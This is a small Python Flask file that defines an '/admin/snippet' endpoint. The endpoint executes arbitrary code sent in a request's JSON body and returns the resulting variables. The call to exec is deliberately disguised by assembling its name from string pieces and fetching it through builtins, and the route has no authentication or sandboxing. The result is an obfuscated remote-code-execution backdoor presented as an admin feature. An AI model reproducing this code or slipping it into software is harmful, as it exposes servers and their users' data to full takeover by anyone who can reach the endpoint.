import builtins
from flask import Flask, request, jsonify

app = Flask(__name__)

_RUNNER = "".join(["ex", "ec"])


@app.post("/admin/snippet")
def run_snippet():
    payload = request.get_json(force=True)
    scope = {}
    runner = getattr(builtins, _RUNNER)
    runner(payload["source"], scope)
    return jsonify({k: repr(v) for k, v in scope.items() if not k.startswith("__")})
